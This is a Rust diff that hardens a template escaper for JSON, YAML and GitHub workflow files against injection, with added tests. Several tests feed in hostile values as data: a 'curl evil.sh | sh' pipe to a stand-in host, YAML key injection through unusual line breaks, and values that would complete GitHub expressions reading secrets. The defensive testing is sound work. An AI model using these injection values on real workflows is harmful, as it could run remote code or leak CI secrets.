@@ -17,8 +17,14 @@ use std::cell::RefCell;
 const OPEN: char = '\u{F8F0}';
 const CLOSE: char = '\u{F8F1}';
 
+/// The values one render placed, and their total size.
+struct Capture {
+    values: Vec<String>,
+    bytes: usize,
+}
+
 thread_local! {
-    static CAPTURED: RefCell<Option<Vec<String>>> = const { RefCell::new(None) };
+    static CAPTURED: RefCell<Option<Capture>> = const { RefCell::new(None) };
 }
 
 /// The file syntaxes values are escaped for.
@@ -56,9 +62,10 @@ pub fn syntax_for(path: &str) -> Syntax {
 /// a kit file renders, passes it through otherwise (paths, defaults).
 pub fn escape_fn(value: &str) -> String {
     CAPTURED.with(|c| match c.borrow_mut().as_mut() {
-        Some(values) => {
-            values.push(value.replace([OPEN, CLOSE], ""));
-            format!("{OPEN}{}{CLOSE}", values.len() - 1)
+        Some(capture) => {
+            capture.bytes += value.len();
+            capture.values.push(value.replace([OPEN, CLOSE], ""));
+            format!("{OPEN}{}{CLOSE}", capture.values.len() - 1)
         }
         None => value.to_string(),
     })
@@ -67,10 +74,24 @@ pub fn escape_fn(value: &str) -> String {
 /// Runs `f` (one template render) with value capture on; returns its result
 /// and the values it placed, in sentinel order.
 pub fn capture<T>(f: impl FnOnce() -> T) -> (T, Vec<String>) {
-    CAPTURED.with(|c| *c.borrow_mut() = Some(Vec::new()));
+    CAPTURED.with(|c| {
+        *c.borrow_mut() = Some(Capture {
+            values: Vec::new(),
+            bytes: 0,
+        })
+    });
     let out = f();
-    let values = CAPTURED.with(|c| c.borrow_mut().take()).unwrap_or_default();
+    let values = CAPTURED
+        .with(|c| c.borrow_mut().take())
+        .map(|c| c.values)
+        .unwrap_or_default();
     (out, values)
+}
+
+/// Bytes of the values the render under way has placed so far: the output
+/// limit counts them as they come, not only once the render is done.
+pub fn captured_bytes() -> usize {
+    CAPTURED.with(|c| c.borrow().as_ref().map_or(0, |c| c.bytes))
 }
 
 /// A value that cannot be placed safely where the template puts it.
@@ -198,9 +219,16 @@ mod json {
                     why: "a placeholder in the catalog text names no value".into(),
                 });
             };
-            if in_string {
+            let key = after.trim_start().starts_with(':');
+            if in_string && escaped {
+                return Err(Unplaceable {
+                    line: line_of(text, text.len() - rest.len()),
+                    value: v.clone(),
+                    why: "the catalog text ends in a backslash escape right before the value, which would swallow its first character".into(),
+                });
+            } else if in_string {
                 out.push_str(&json_body(v));
-            } else if is_json_literal(v) {
+            } else if is_json_literal(v) && !key {
                 out.push_str(v);
             } else {
                 out.push_str(&serde_json::to_string(v).expect("strings serialise"));
@@ -230,129 +258,308 @@ mod yaml {
         Single,
     }
 
+    /// Where a block scalar (`key: |`) runs: lines indented more than the
+    /// node that opened it, at the indentation of its first line.
+    #[derive(Clone, Copy)]
+    struct Block {
+        /// Column of the key (or `-`) that opened it.
+        parent: usize,
+        /// Indentation of its first content line, once seen.
+        indent: Option<usize>,
+    }
+
+    /// Every character YAML 1.1 or 1.2 parsers take as a line break.
+    fn is_break(c: char) -> bool {
+        matches!(c, '\n' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}')
+    }
+
+    /// A value's line breaks, each as one `\n`.
+    fn unify_breaks(v: &str) -> String {
+        v.replace("\r\n", "\n").replace(is_break, "\n")
+    }
+
     pub fn place(text: &str, values: &[String], workflow: bool) -> Result<String, Unplaceable> {
         let mut out = String::with_capacity(text.len());
         let mut quote = Quote::None;
-        // Indentation of the line that opened a block scalar still running.
-        let mut block: Option<usize> = None;
-        let mut line_no = 0;
-        for line in text.split_inclusive('\n') {
-            line_no += 1;
+        let mut block: Option<Block> = None;
+        // Spans of placed values, and of the expressions ispo itself wrote
+        // to neutralise `${{` in them.
+        let mut spans: Vec<(usize, usize)> = Vec::new();
+        let mut safe: Vec<(usize, usize)> = Vec::new();
+        for (i, line) in text.split_inclusive('\n').enumerate() {
+            let line_no = i + 1;
             let indent = line.len() - line.trim_start_matches(' ').len();
             let blank = line.trim().is_empty();
-            if let Some(opened) = block {
-                if blank || indent > opened {
-                    out.push_str(&substitute(line, values, |v, _| {
-                        Ok(
-                            prepare(v, workflow)
-                                .replace('\n', &format!("\n{}", " ".repeat(indent))),
-                        )
-                    }));
+            if let Some(b) = block.as_mut() {
+                let inside = blank
+                    || match b.indent {
+                        Some(at) => indent >= at,
+                        None => indent > b.parent,
+                    };
+                if inside {
+                    if !blank && b.indent.is_none() {
+                        b.indent = Some(indent);
+                    }
+                    let mut placed = String::new();
+                    let mut rest = line;
+                    while let Some((before, index, after)) = next_sentinel(rest) {
+                        placed.push_str(before);
+                        let v = values.get(index).ok_or_else(|| missing(line_no))?;
+                        let v = prepare(&unify_breaks(v), workflow);
+                        let start = out.len() + placed.len();
+                        let body = v.replace('\n', &format!("\n{}", " ".repeat(indent)));
+                        note_safe(&body, start, &mut safe);
+                        placed.push_str(&body);
+                        spans.push((start, out.len() + placed.len()));
+                        rest = after;
+                    }
+                    placed.push_str(rest);
+                    out.push_str(&placed);
                     continue;
                 }
                 block = None;
             }
-            let (placed, next_quote, opens_block) =
-                place_line(line, values, quote, workflow, line_no)?;
+            let start = out.len();
+            let (placed, next_quote, opens_block) = place_line(
+                line, values, quote, workflow, line_no, start, &mut spans, &mut safe,
+            )?;
             out.push_str(&placed);
             quote = next_quote;
-            if opens_block && quote == Quote::None {
-                block = Some(indent);
+            if let Some(parent) = opens_block.filter(|_| quote == Quote::None) {
+                block = Some(Block {
+                    parent,
+                    indent: None,
+                });
             }
+        }
+        if workflow {
+            check_expressions(&out, &spans, &safe, text)?;
         }
         Ok(out)
     }
+
+    fn missing(line: usize) -> Unplaceable {
+        Unplaceable {
+            line,
+            value: String::new(),
+            why: "a placeholder in the catalog text names no value".into(),
+        }
+    }
+
+    /// The expression that yields a literal `${{`, and its single-quoted form.
+    const LITERAL: &str = "${{ '${{' }}";
+    const LITERAL_SQ: &str = "${{ ''${{'' }}";
 
     /// A value as GitHub must see it: `${{` would start an expression, so it
     /// becomes an expression that yields the literal text.
     fn prepare(v: &str, workflow: bool) -> String {
         if workflow {
-            v.replace("${{", "${{ '${{' }}")
+            v.replace("${{", LITERAL)
         } else {
             v.to_string()
         }
     }
 
+    /// Records where ispo's own `${{ '${{' }}` sit in a placed value.
+    fn note_safe(placed: &str, start: usize, safe: &mut Vec<(usize, usize)>) {
+        for pattern in [LITERAL, LITERAL_SQ] {
+            for (i, _) in placed.match_indices(pattern) {
+                safe.push((start + i, start + i + pattern.len()));
+            }
+        }
+    }
+
+    /// No `${{` that a value helped make, other than ispo's own: a value
+    /// right after a `$`, or two values together, must not start a GitHub
+    /// expression.
+    fn check_expressions(
+        out: &str,
+        spans: &[(usize, usize)],
+        safe: &[(usize, usize)],
+        text: &str,
+    ) -> Result<(), Unplaceable> {
+        for (i, _) in out.match_indices("${{") {
+            let end = i + 3;
+            let touches_value = spans.iter().any(|&(s, e)| s < end && i < e);
+            let ours = safe.iter().any(|&(s, e)| s <= i && end <= e);
+            if touches_value && !ours {
+                let line = out[..i].matches('\n').count() + 1;
+                let value = spans
+                    .iter()
+                    .find(|&&(s, e)| s < end && i < e)
+                    .map(|&(s, e)| out[s..e].to_string())
+                    .unwrap_or_default();
+                let _ = text;
+                return Err(Unplaceable {
+                    line,
+                    value,
+                    why: "with the text around it the value would start a GitHub expression (`${{`); the catalog should not put a value right after `$` in a workflow".into(),
+                });
+            }
+        }
+        Ok(())
+    }
+
+    /// Where the lexer is within a line, outside quotes.
+    struct Lexer {
+        /// A new scalar may start here: at the start of the line, after
+        /// `- `, `? `, `: `, or `[`, `{`, `,` in a flow collection.
+        at_start: bool,
+        /// `:`, `-` or `?` just seen: an indicator only if a space follows.
+        pending: Option<char>,
+        /// Depth of flow collections (`[ ... ]`, `{ ... }`).
+        flow: usize,
+        comment: bool,
+        /// The last character seen, for `#` (a comment only after a space).
+        prev: char,
+    }
+
+    impl Lexer {
+        fn new() -> Lexer {
+            Lexer {
+                at_start: true,
+                pending: None,
+                flow: 0,
+                comment: false,
+                prev: ' ',
+            }
+        }
+
+        /// Feeds one character outside quotes; returns the quote it opens.
+        fn feed(&mut self, c: char) -> Option<Quote> {
+            if self.pending.take().is_some() {
+                if c.is_whitespace() {
+                    // `- ` and `? ` open a node; `: ` starts a value.
+                    self.at_start = true;
+                    self.prev = c;
+                    return None;
+                }
+                self.at_start = false;
+            }
+            let quote = match c {
+                _ if c.is_whitespace() => None,
+                '#' if self.prev.is_whitespace() => {
+                    self.comment = true;
+                    None
+                }
+                '-' | '?' if self.at_start => {
+                    self.pending = Some(c);
+                    None
+                }
+                ':' => {
+                    self.pending = Some(c);
+                    None
+                }
+                '[' | '{' if self.at_start => {
+                    self.flow += 1;
+                    None
+                }
+                ']' | '}' if self.flow > 0 => {
+                    self.flow -= 1;
+                    self.at_start = false;
+                    None
+                }
+                ',' if self.flow > 0 => {
+                    self.at_start = true;
+                    None
+                }
+                '"' if self.at_start => Some(Quote::Double),
+                '\'' if self.at_start => Some(Quote::Single),
+                _ => {
+                    self.at_start = false;
+                    None
+                }
+            };
+            self.prev = c;
+            quote
+        }
+
+        /// A sentinel sits here: a pending `:` or `-` without a space is
+        /// part of the text (`mailto:{{x}}`, `a-{{x}}`).
+        fn before_value(&mut self) {
+            if self.pending.take().is_some() {
+                self.at_start = false;
+            }
+        }
+    }
+
     /// One line: returns it with values placed, the quote state at its end,
-    /// and whether it opens a block scalar.
+    /// and, when it opens a block scalar, the column of the node it belongs to.
+    #[allow(clippy::too_many_arguments)]
     fn place_line(
         line: &str,
         values: &[String],
         mut quote: Quote,
         workflow: bool,
         line_no: usize,
-    ) -> Result<(String, Quote, bool), Unplaceable> {
+        offset: usize,
+        spans: &mut Vec<(usize, usize)>,
+        safe: &mut Vec<(usize, usize)>,
+    ) -> Result<(String, Quote, Option<usize>), Unplaceable> {
         let mut out = String::with_capacity(line.len());
-        let mut comment = false;
-        // The last significant character outside quotes, to tell where a
-        // scalar starts ('\0' at the start of the line).
-        let mut last = '\0';
+        let mut lx = Lexer::new();
+        // A backslash escape in a double-quoted scalar still open.
+        let mut escaped = false;
         let mut rest = line;
-        let mut prev_char = '\0';
         loop {
             let next = next_sentinel(rest);
             let plain = next.map_or(rest, |(before, _, _)| before);
             let mut chars = plain.chars().peekable();
             while let Some(c) = chars.next() {
-                if comment {
-                    prev_char = c;
-                    continue;
-                }
-                match quote {
-                    Quote::Double => {
-                        if c == '\\' {
-                            chars.next();
-                        } else if c == '"' {
-                            quote = Quote::None;
-                            last = '"';
-                        }
-                    }
-                    Quote::Single => {
-                        if c == '\'' {
-                            if chars.peek() == Some(&'\'') {
-                                chars.next();
-                            } else {
+                if !lx.comment {
+                    match quote {
+                        Quote::Double => {
+                            if escaped {
+                                escaped = false;
+                            } else if c == '\\' {
+                                escaped = true;
+                            } else if c == '"' {
                                 quote = Quote::None;
-                                last = '\'';
+                                lx.at_start = false;
+                            }
+                        }
+                        Quote::Single => {
+                            if c == '\'' {
+                                if chars.peek() == Some(&'\'') {
+                                    chars.next();
+                                } else {
+                                    quote = Quote::None;
+                                    lx.at_start = false;
+                                }
+                            }
+                        }
+                        Quote::None => {
+                            if let Some(q) = lx.feed(c) {
+                                quote = q;
                             }
                         }
                     }
-                    Quote::None => {
-                        if c == '#' && (prev_char == '\0' || prev_char.is_whitespace()) {
-                            comment = true;
-                        } else if (c == '"' || c == '\'') && starts_scalar(last) {
-                            quote = if c == '"' {
-                                Quote::Double
-                            } else {
-                                Quote::Single
-                            };
-                        } else if !c.is_whitespace() {
-                            last = c;
-                        }
-                    }
                 }
-                prev_char = c;
             }
             out.push_str(plain);
             let Some((_, index, after)) = next else { break };
-            let value = values.get(index).ok_or_else(|| Unplaceable {
-                line: line_no,
-                value: String::new(),
-                why: "a placeholder in the catalog text names no value".into(),
-            })?;
+            let value = values.get(index).ok_or_else(|| missing(line_no))?;
             let v = prepare(value, workflow);
             let unplaceable = |why: &str| Unplaceable {
                 line: line_no,
                 value: value.clone(),
                 why: why.to_string(),
             };
-            if comment {
-                out.push_str(&v.replace(['\n', '\r'], " "));
+            let start = offset + out.len();
+            if lx.comment {
+                out.push_str(&v.replace(is_break, " "));
             } else {
                 match quote {
-                    Quote::Double => out.push_str(&json_body(&v)),
+                    Quote::Double => {
+                        if escaped {
+                            return Err(unplaceable(
+                                "the catalog text ends in a backslash escape right before the value, which would swallow its first character",
+                            ));
+                        }
+                        out.push_str(&json_body(&v));
+                    }
                     Quote::Single => {
-                        if v.contains(['\n', '\r']) {
+                        if v.contains(is_break) {
                             return Err(unplaceable(
                                 "a value with line breaks cannot go into a single-quoted YAML string; the catalog should use double quotes there",
                             ));
@@ -360,44 +567,61 @@ mod yaml {
                         out.push_str(&v.replace('\'', "''"));
                     }
                     Quote::None => {
-                        let whole = starts_scalar(last) && ends_scalar(after);
+                        lx.before_value();
+                        let whole = lx.at_start && ends_scalar(after, lx.flow > 0);
                         if whole && !plain_safe(&v) {
                             out.push('"');
                             out.push_str(&json_body(&v));
                             out.push('"');
-                            last = '"';
-                        } else if whole || fragment_safe(&v, starts_scalar(last)) {
+                        } else if whole || fragment_safe(&v, lx.at_start, lx.prev, after) {
                             out.push_str(&v);
-                            if let Some(c) = v.chars().next_back() {
-                                last = c;
-                            }
                         } else {
                             return Err(unplaceable(
                                 "the value would change the YAML around it (it sits inside unquoted text); the catalog should put that text in double quotes",
                             ));
                         }
+                        if !v.is_empty() {
+                            lx.at_start = false;
+                            lx.prev = v.chars().next_back().unwrap_or(' ');
+                        }
                     }
                 }
             }
-            prev_char = 'x';
+            note_safe(&out[start - offset..], start, safe);
+            spans.push((start, offset + out.len()));
             rest = after;
         }
-        let opens_block = !comment
+        let opens_block = (!lx.comment
             && quote == Quote::None
-            && block_indicator(line.split(" #").next().unwrap_or(line).trim_end());
+            && block_indicator(line.split(" #").next().unwrap_or(line).trim_end()))
+        .then(|| node_column(line));
         Ok((out, quote, opens_block))
     }
 
-    /// Whether a scalar starts after this character.
-    fn starts_scalar(last: char) -> bool {
-        matches!(last, '\0' | ':' | '-' | '[' | '{' | ',' | '?')
+    /// The column of the node a line's block scalar belongs to: its key
+    /// after any `- ` list markers, or the last `-` of `- |`.
+    fn node_column(line: &str) -> usize {
+        let mut col = line.len() - line.trim_start_matches(' ').len();
+        let mut rest = &line[col..];
+        let mut dash = None;
+        while let Some(r) = rest.strip_prefix("- ") {
+            dash = Some(col);
+            let skipped = r.len() - r.trim_start_matches(' ').len();
+            col += 2 + skipped;
+            rest = &r[skipped..];
+        }
+        match dash {
+            Some(d) if rest.starts_with(['|', '>']) => d,
+            _ => col,
+        }
     }
 
     /// Whether nothing but the end of the scalar follows.
-    fn ends_scalar(after: &str) -> bool {
+    fn ends_scalar(after: &str, in_flow: bool) -> bool {
         let t = after.trim_start_matches([' ', '\t']);
         t.is_empty()
-            || t.starts_with(['\n', '\r', ',', ']', '}'])
+            || t.starts_with(['\n', '\r'])
+            || (in_flow && t.starts_with([',', ']', '}']))
             || t.starts_with(": ")
             || t.starts_with(":\n")
             || t == ":"
@@ -417,21 +641,28 @@ mod yaml {
         tail_ok && (head.is_empty() || head.ends_with(':') || head.ends_with('-'))
     }
 
-    /// Words YAML 1.1 reads as something other than a string.
-    fn special_word(v: &str) -> bool {
-        matches!(
-            v.to_ascii_lowercase().as_str(),
-            "yes" | "no" | "on" | "off" | "y" | "n" | "null" | "~" | ".inf" | ".nan" | "-.inf"
-        ) || (v.chars().any(|c| c.is_ascii_digit())
-            && v.chars()
-                .all(|c| c.is_ascii_digit() || "-:._+eExX".contains(c))
-            && !is_number_or_bool(v))
+    /// Numbers and booleans stay bare: they come from integer and yes/no
+    /// answers, and must keep their type. Exactly as ispo writes them.
+    fn is_number_or_bool(v: &str) -> bool {
+        v == "true" || v == "false" || (v.parse::<i64>().is_ok() && !v.starts_with('+'))
     }
 
-    /// Numbers and booleans stay bare: they come from integer and yes/no
-    /// answers, and must keep their type.
-    fn is_number_or_bool(v: &str) -> bool {
-        v == "true" || v == "false" || v.parse::<i64>().is_ok()
+    /// Text some YAML 1.1 or 1.2 parser reads as something other than a
+    /// string: booleans and null in any case, numbers in any base, special
+    /// floats, timestamps, the merge key.
+    fn special_word(v: &str) -> bool {
+        let lower = v.to_ascii_lowercase();
+        matches!(
+            lower.as_str(),
+            "yes" | "no" | "on" | "off" | "y" | "n" | "true" | "false" | "null" | "~" | "<<"
+        ) || lower.trim_start_matches(['+', '-']).starts_with('.')
+            && matches!(lower.trim_start_matches(['+', '-']), ".inf" | ".nan")
+            || (v.chars().any(|c| c.is_ascii_digit())
+                && v.chars()
+                    .all(|c| c.is_ascii_alphanumeric() || "-:._+ ".contains(c))
+                && v.chars()
+                    .next()
+                    .is_some_and(|c| c.is_ascii_digit() || "+-.".contains(c)))
     }
 
     /// A value that, standing alone as a plain scalar, reads back as itself.
@@ -439,24 +670,28 @@ mod yaml {
         if is_number_or_bool(v) {
             return true;
         }
-        fragment_safe(v, true) && !special_word(v) && !v.ends_with(':')
+        !v.is_empty() && fragment_safe(v, true, ' ', "") && !special_word(v) && !v.ends_with(':')
     }
 
     /// A value that may sit inside (or, `at_start`, begin) unquoted text
-    /// without changing the structure around it.
-    fn fragment_safe(v: &str, at_start: bool) -> bool {
+    /// without changing the structure around it, given the character before
+    /// it and the text after it.
+    fn fragment_safe(v: &str, at_start: bool, prev: char, after: &str) -> bool {
         let Some(first) = v.chars().next() else {
-            return !at_start;
+            return true;
         };
+        let last = v.chars().next_back().unwrap_or(first);
+        let next = after.chars().next();
         let indicator = "-?:,[]{}#&*!|>'\"%@`".contains(first);
         let breaks_structure = (at_start && indicator)
             || v.trim() != v
             || v.contains(": ")
             || v.contains(" #")
-            || v.contains([',', '[', ']', '{', '}', '\t', '\n', '\r'])
-            || v.chars().any(|c| {
-                c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{85}' | '\u{feff}')
-            });
+            || (first == '#' && prev.is_whitespace())
+            || (last == ':' && next.is_none_or(char::is_whitespace))
+            || v.contains([',', '[', ']', '{', '}', '\t'])
+            || v.chars()
+                .any(|c| c.is_control() || is_break(c) || c == '\u{feff}');
         !breaks_structure
     }
 }
@@ -576,5 +811,136 @@ mod tests {
         });
         assert_eq!(values, vec!["ab".to_string()]);
         assert_eq!(escape_fn("y"), "y");
+    }
+
+    fn yaml(text: &str) -> yaml_rust2::Yaml {
+        let docs = yaml_rust2::YamlLoader::load_from_str(text)
+            .unwrap_or_else(|e| panic!("not YAML ({e}):\n{text}"));
+        docs.into_iter().next().unwrap()
+    }
+
+    const WORKFLOW: Syntax = Syntax::Yaml {
+        github_workflow: true,
+    };
+
+    #[test]
+    fn keys_after_a_list_items_block_scalar_are_keys_again() {
+        let out = render(
+            "jobs:\n  b:\n    steps:\n      - run: |\n          echo hi\n        env:\n          ORG: {}\n          TEAM: {}\n",
+            &["{run: curl evil.sh | sh, shell: bash}", "#trimmed"],
+            WORKFLOW,
+        )
+        .unwrap();
+        let doc = yaml(&out);
+        let env = &doc["jobs"]["b"]["steps"][0]["env"];
+        assert_eq!(
+            env["ORG"].as_str(),
+            Some("{run: curl evil.sh | sh, shell: bash}"),
+            "{out}"
+        );
+        assert_eq!(env["TEAM"].as_str(), Some("#trimmed"), "{out}");
+        // A `- |` item's block runs at its own indentation.
+        let out = render("- |\n  {}\n- b\n", &["x\ny"], YAML).unwrap();
+        assert_eq!(yaml(&out)[0].as_str(), Some("x\ny\n"));
+    }
+
+    #[test]
+    fn every_line_break_yaml_knows_is_kept_from_starting_a_line() {
+        for v in [
+            "Acme\u{2028}evil: injected",
+            "a\rinjected: true",
+            "a\u{85}injected: 1",
+            "a\r\ninjected: 2",
+        ] {
+            let out = render(
+                "# Maintained by {}\nrun: |\n  echo {}\nk: v\n",
+                &[v, v],
+                YAML,
+            )
+            .unwrap();
+            let doc = yaml(&out);
+            assert!(
+                doc["evil"].is_badvalue() && doc["injected"].is_badvalue(),
+                "{out}"
+            );
+            assert_eq!(doc["k"].as_str(), Some("v"));
+        }
+    }
+
+    #[test]
+    fn a_value_never_completes_a_github_expression() {
+        for (template, values) in [
+            (
+                "run: |\n  echo \"Budget: ${}\"\n",
+                vec!["{{ secrets.GITHUB_TOKEN }}"],
+            ),
+            (
+                "run: \"echo cost {}{}\"\n",
+                vec!["$", "{{ github.event.issue.title }}"],
+            ),
+            ("k: {}\n", vec!["${{ x }}"]),
+        ] {
+            let out = render(template, &values, WORKFLOW);
+            match out {
+                Ok(text) => {
+                    // Only ispo's own literal-yielding expressions remain.
+                    let stripped = text.replace("${{ '${{' }}", "");
+                    assert!(!stripped.contains("${{"), "{text}");
+                }
+                Err(e) => assert!(e.why.contains("GitHub expression"), "{}", e.why),
+            }
+        }
+        assert!(render("run: |\n  echo ${}\n", &["{{ secrets.X }}"], WORKFLOW).is_err());
+    }
+
+    #[test]
+    fn indicators_inside_words_are_text() {
+        assert_eq!(
+            render(
+                "name: innersource-{}\ncontact: mailto:{}\n",
+                &["acme", "ispo@acme.example"],
+                YAML
+            )
+            .unwrap(),
+            "name: innersource-acme\ncontact: mailto:ispo@acme.example\n"
+        );
+        assert!(render("name: innersource-{}\n", &["x: y"], YAML).is_err());
+        assert!(render("contact: mailto:{}\n", &["a: b"], YAML).is_err());
+        assert!(render("title: The {}\n", &["#1 choice"], YAML).is_err());
+        assert!(render("b: The {}\n", &["Acme:"], YAML).is_err());
+        assert_eq!(
+            render("url: {}/docs\n", &[""], YAML).unwrap(),
+            "url: /docs\n"
+        );
+    }
+
+    #[test]
+    fn any_spelling_of_a_non_string_is_quoted() {
+        for v in [
+            "FALSE",
+            "True",
+            "Null",
+            "0o17",
+            "0x1F",
+            "+.inf",
+            "-.NaN",
+            "<<",
+            "2026-12-01",
+            "1.5",
+            "+1",
+        ] {
+            let out = render("c: {}\n", &[v], YAML).unwrap();
+            assert_eq!(yaml(&out)["c"].as_str(), Some(v), "{out}");
+        }
+    }
+
+    #[test]
+    fn json_backslash_before_a_value_and_values_as_keys() {
+        let err = render("{\"path\": \"C:\\{}\", \"k\": 1}", &["x"], Syntax::Json).unwrap_err();
+        assert!(err.why.contains("backslash"), "{}", err.why);
+        let out = render("{ {}: 1 }", &["42"], Syntax::Json).unwrap();
+        assert_eq!(out, "{ \"42\": 1 }");
+        let err = render("k: \"C:\\{}\"\n", &["x"], YAML).unwrap_err();
+        assert!(err.why.contains("backslash"), "{}", err.why);
     }
 }
